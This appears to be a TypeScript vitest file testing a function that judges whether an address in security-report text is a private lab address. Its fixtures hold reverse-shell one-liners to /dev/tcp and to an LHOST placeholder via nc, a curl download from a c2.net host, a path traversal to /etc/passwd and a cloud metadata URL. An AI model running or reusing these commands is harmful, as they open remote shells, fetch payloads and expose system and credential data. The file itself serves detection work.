import { expect, it } from 'vitest'
import { partsOf } from '../../../chunk/text-parts.ts'
import { marked } from '../../__fixtures__/marked.ts'
import { placesIn } from '../place.ts'
import { isShownInLaboratory } from './lab-address.ts'

function isShown(written: string): boolean {
  const { text, range } = marked(written)
  return isShownInLaboratory(placesIn(text, [], partsOf(text), () => () => false)(range))
}

it.each([
  [
    'a private address in a report',
    'The exploit gave a shell: `⟦bash -i >& /dev/tcp/10.10.14.3/4444⟧`.',
    true,
  ],
  [
    'what stands for an address, behind what is claimed',
    'The exploit gave a shell: `⟦sh -i⟧ 2>&1 | nc LHOST 4444`.',
    true,
  ],
  [
    'a host by its name beside it',
    'The exploit gave a shell: `⟦curl http://c2.net/x -o 10.0.0.1⟧`.',
    false,
  ],
  ['a public one', 'The exploit gave a shell: `⟦bash -i >& /dev/tcp/45.77.12.9/4444⟧`.', false],
  ['a bare address of one', '⟦http://192.168.1.10/admin⟧', true],
  ['what climbs out of it', '⟦http://192.168.1.10/../../etc/passwd⟧', false],
  ['a bare address elsewhere', '⟦http://169.254.169.254/latest/meta-data⟧', false],
  ['a script', '⟦bash -i >& /dev/tcp/10.10.14.3/4444⟧', false],
])('tells %s', (_, written, expected) => {
  expect(isShown(written)).toBe(expected)
})
